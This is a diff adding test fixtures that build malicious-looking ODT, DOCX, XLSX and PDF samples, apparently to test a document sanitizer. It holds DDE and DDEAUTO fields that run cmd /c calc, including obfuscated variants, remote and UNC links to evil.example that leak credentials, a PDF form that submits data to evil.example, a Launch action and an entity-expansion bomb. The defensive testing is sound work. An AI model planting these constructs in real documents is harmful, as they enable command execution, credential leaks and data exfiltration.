@@ -14,6 +14,7 @@ from pypdf.generic import (
     DictionaryObject,
     FloatObject,
     NameObject,
+    NumberObject,
     StreamObject,
     TextStringObject,
 )
@@ -360,3 +361,356 @@ def ods() -> bytes:
 
 def odt_with_basic_macros() -> bytes:
     return odt(**{"Basic/Standard/Module1.xml": "<script:module>Sub Main</script:module>"})
+
+
+# -- Content that is loaded or run from elsewhere --------------------------------------------
+
+OFFICE_NS = (
+    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
+    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
+    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
+    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
+    'xmlns:xlink="http://www.w3.org/1999/xlink"'
+)
+ODF_PICTURE = (
+    '<draw:frame draw:name="Kaart"><draw:image xlink:href="Pictures/kaart.png" '
+    'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>'
+)
+ODF_HYPERLINK = (
+    '<text:a xlink:type="simple" xlink:href="https://www.example.org/plan">het plan</text:a>'
+)
+
+
+def odt_content(body: str) -> str:
+    """An ODT `content.xml` with `body` in its text."""
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        f'<office:document-content {OFFICE_NS} office:version="1.3">'
+        f"<office:body><office:text><text:p>{body}</text:p></office:text></office:body>"
+        "</office:document-content>"
+    )
+
+
+def odt_with_picture_and_hyperlink() -> bytes:
+    """A clean ODT: an embedded picture (a part of the package), a hyperlink and a
+    link to a bookmark, in the content and in the styles."""
+    styles = (
+        f'<office:document-styles {OFFICE_NS}><office:styles><style:style style:name="S">'
+        '<style:graphic-properties><style:background-image xlink:href="Pictures/logo.png"/>'
+        "</style:graphic-properties></style:style></office:styles></office:document-styles>"
+    )
+    return odt(
+        **{
+            "content.xml": odt_content(
+                ODF_PICTURE
+                + ODF_HYPERLINK
+                + '<draw:a xlink:href="https://www.example.org/">'
+                + '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></draw:a>'
+                + '<text:a xlink:href="#Begroting">zie de begroting</text:a>'
+            ),
+            "styles.xml": styles,
+            "Pictures/kaart.png": png(),
+            "Pictures/logo.png": png(),
+            "Object 1/content.xml": odt_content("Een ingevoegd object."),
+        }
+    )
+
+
+def odt_with_link(element: str, *, part: str = "content.xml") -> bytes:
+    """An ODT whose `part` holds `element` (a link to outside the package)."""
+    if part == "content.xml":
+        return odt(**{"content.xml": odt_content(element)})
+    return odt(**{part: f"<office:document-styles {OFFICE_NS}>{element}</office:document-styles>"})
+
+
+ODF_REMOTE_LINKS = {
+    "remote_image": '<draw:frame><draw:image xlink:href="http://evil.example/p.png"/></draw:frame>',
+    "unc_image": (
+        '<draw:frame><draw:image xlink:href="\\\\evil.example\\share\\p.png"/></draw:frame>'
+    ),
+    "file_object": '<draw:frame><draw:object xlink:href="file:///etc/passwd"/></draw:frame>',
+    "remote_object": (
+        '<draw:frame><draw:object-ole xlink:href="https://evil.example/o.bin"/></draw:frame>'
+    ),
+    "parent_folder_image": '<draw:frame><draw:image xlink:href="../p.png"/></draw:frame>',
+    "encoded_absolute_image": (
+        '<draw:frame><draw:image xlink:href="%2F%2Fevil.example/p.png"/></draw:frame>'
+    ),
+    "section_source": (
+        '<text:section text:name="S"><text:section-source '
+        'xlink:href="https://evil.example/tekst.odt" xlink:type="simple"/></text:section>'
+    ),
+    # Another prefix for the xlink namespace: the attribute is known by its local name.
+    "other_prefix": (
+        '<draw:frame><draw:image xmlns:x="http://www.w3.org/1999/xlink" '
+        'x:href="http://evil.example/p.png"/></draw:frame>'
+    ),
+}
+
+
+def odt_with_styles_remote_image() -> bytes:
+    """A page background fetched from a web server, in `styles.xml`."""
+    return odt_with_link(
+        '<office:styles><style:style style:name="S"><style:graphic-properties>'
+        '<style:background-image xlink:href="https://evil.example/achtergrond.png"/>'
+        "</style:graphic-properties></style:style></office:styles>",
+        part="styles.xml",
+    )
+
+
+def odt_with_dde_source() -> bytes:
+    return odt_with_link(
+        '<text:section text:name="S"><office:dde-source office:dde-application="cmd" '
+        'office:dde-topic="/c calc.exe" office:dde-item="A1"/></text:section>'
+    )
+
+
+def odt_with_dde_connection() -> bytes:
+    return odt_with_link(
+        '<text:dde-connection-decls><text:dde-connection-decl office:name="D" '
+        'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
+        '</text:dde-connection-decls><text:dde-connection text:connection-name="D"/>'
+    )
+
+
+def odt_with_dtd_in_content() -> bytes:
+    bomb = (
+        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
+        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><office:document-content>'
+        "&b;</office:document-content>"
+    )
+    return odt(**{"content.xml": bomb})
+
+
+def ods_with_linked_sheet() -> bytes:
+    content = (
+        f"<office:document-content {OFFICE_NS}><office:body><office:spreadsheet>"
+        '<table:table table:name="Blad1"><table:table-source '
+        'xlink:href="https://evil.example/cijfers.ods" table:table-name="Blad1"/>'
+        "</table:table></office:spreadsheet></office:body></office:document-content>"
+    )
+    return odf("application/vnd.oasis.opendocument.spreadsheet", **{"content.xml": content})
+
+
+W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+OLE_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
+
+
+def word_document(body: str) -> str:
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        f"<w:document {W_NS}><w:body>{body}</w:body></w:document>"
+    )
+
+
+def complex_field(*codes: str, result: str = "1") -> str:
+    """A field the way Word writes one: begin, the code in one run or spread over
+    several, separate, the result, end."""
+    runs = "".join(
+        f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes
+    )
+    return (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+PICTURE_RELATIONSHIP = (
+    '<Relationship Id="rId5" Target="media/image1.png" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
+)
+
+
+def docx_with_fields_picture_and_hyperlink() -> bytes:
+    """A clean DOCX: a page number field, a HYPERLINK field, a simple field, an
+    embedded picture and an external hyperlink relationship."""
+    body = (
+        complex_field(" PAGE ")
+        + complex_field(' HYPERLINK "https://www.example.org/" ', result="site")
+        + '<w:p><w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>3</w:t></w:r></w:fldSimple></w:p>'
+        + "<w:p><w:r><w:t>DDEAUTO staat hier als gewone tekst.</w:t></w:r></w:p>"
+    )
+    return docx(
+        **{
+            "word/document.xml": word_document(body),
+            "word/_rels/document.xml.rels": _rels(HYPERLINK, PICTURE_RELATIONSHIP),
+            "word/media/image1.png": png(),
+        }
+    )
+
+
+def docx_with_ddeauto_field() -> bytes:
+    return docx(
+        **{
+            "word/document.xml": word_document(
+                complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')
+            )
+        }
+    )
+
+
+def docx_with_split_dde_field() -> bytes:
+    """The field code spread over runs, in lower case, as Word accepts it."""
+    return docx(
+        **{"word/document.xml": word_document(complex_field(" dd", "e ", 'cmd "/c calc" '))}
+    )
+
+
+def docx_with_dde_simple_field() -> bytes:
+    return docx(
+        **{
+            "word/document.xml": word_document(
+                '<w:p><w:fldSimple w:instr="DDE cmd &quot;/c calc&quot; x">'
+                "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
+            )
+        }
+    )
+
+
+def docx_with_dde_in_footer() -> bytes:
+    field = complex_field(' DDEAUTO cmd "/c calc" ')
+    footer = f"<w:ftr {W_NS}>{field}</w:ftr>"
+    return docx(**{"word/footer1.xml": footer})
+
+
+def docx_with_computed_field_name() -> bytes:
+    """A field whose name is the result of a nested field (QUOTE spelling "DDE")."""
+    nested = (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        "<w:r><w:instrText> QUOTE 68 68 69 </w:instrText></w:r>"
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+    body = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'<w:r><w:instrText xml:space="preserve"> </w:instrText></w:r>{nested}'
+        '<w:r><w:instrText> cmd "/c calc" </w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    return docx(**{"word/document.xml": word_document(body)})
+
+
+def docx_with_ole_object() -> bytes:
+    """An OLE object the way Word embeds one: the part, its content type."""
+    return docx(
+        **{
+            "[Content_Types].xml": _content_types(
+                DOCX_MAIN,
+                "word/document.xml",
+                f'<Default Extension="bin" ContentType="{OLE_CONTENT_TYPE}"/>',
+            ),
+            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 package",
+        }
+    )
+
+
+def docx_with_ole_part_only() -> bytes:
+    """An OLE part under another name, without its content type."""
+    return docx(**{"word/embeddings/Pakket.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})
+
+
+def docx_with_ole_content_type_only() -> bytes:
+    return docx(
+        **{
+            "[Content_Types].xml": _content_types(
+                DOCX_MAIN,
+                "word/document.xml",
+                f'<Override PartName="/word/objects/o1.dat" ContentType="{OLE_CONTENT_TYPE}"/>',
+            ),
+            "word/objects/o1.dat": b"\xd0\xcf\x11\xe0",
+        }
+    )
+
+
+def xlsx_with(**extra) -> bytes:
+    entries = {
+        "[Content_Types].xml": _content_types(XLSX_MAIN, "xl/workbook.xml"),
+        "xl/workbook.xml": "<workbook/>",
+    }
+    entries.update(extra)
+    return _zip(entries)
+
+
+def xlsx_with_ole_object() -> bytes:
+    return xlsx_with(**{"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})
+
+
+def xlsx_with_dde_link() -> bytes:
+    link = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems>'
+        '<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
+    )
+    return xlsx_with(**{"xl/externalLinks/externalLink1.xml": link})
+
+
+def _pdf_with_link_annotation(action: DictionaryObject) -> bytes:
+    writer = pdf_writer()
+    annotation = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 200, 30)]),
+            NameObject("/A"): action,
+        }
+    )
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
+    return _write(writer)
+
+
+def pdf_with_uri_link() -> bytes:
+    """A clean PDF with a web link (clicked, not run)."""
+    return _pdf_with_link_annotation(_action("/URI", URI=TextStringObject("https://example.org/")))
+
+
+def pdf_with_open_action_gotor_unc() -> bytes:
+    """On opening, go to a PDF on a network share (which hands over the reader's
+    Windows credentials to that server)."""
+    writer = pdf_writer()
+    writer._root_object[NameObject("/OpenAction")] = _action(
+        "/GoToR",
+        F=TextStringObject("\\\\evil.example\\share\\x.pdf"),
+        D=ArrayObject([NumberObject(0), NameObject("/Fit")]),
+    )
+    return _write(writer)
+
+
+def pdf_with_gotor_link() -> bytes:
+    return _pdf_with_link_annotation(
+        _action("/GoToR", F=TextStringObject("//evil.example/x.pdf"), D=TextStringObject("a"))
+    )
+
+
+def pdf_with_gotoe_link() -> bytes:
+    return _pdf_with_link_annotation(
+        _action("/GoToE", F=TextStringObject("ander.pdf"), D=TextStringObject("a"))
+    )
+
+
+def pdf_with_page_aa_submit_form() -> bytes:
+    """On closing the page, the form's fields are posted to a web server."""
+    writer = pdf_writer()
+    writer.pages[0][NameObject("/AA")] = DictionaryObject(
+        {
+            NameObject("/C"): _action(
+                "/SubmitForm", F=TextStringObject("https://evil.example/verzamel")
+            )
+        }
+    )
+    return _write(writer)
+
+
+def pdf_with_outline_import_data() -> bytes:
+    """An outline item (bookmark) that imports form data from another file."""
+    writer = pdf_writer()
+    item = writer.add_outline_item(title="Hoofdstuk 1", page_number=0)
+    item.get_object()[NameObject("/A")] = _action(
+        "/ImportData", F=TextStringObject("\\\\evil.example\\share\\data.fdf")
+    )
+    return _write(writer)
+
+
+def pdf_with_launch_in_annotation() -> bytes:
+    return _pdf_with_link_annotation(_action("/Launch", F=TextStringObject("calc.exe")))
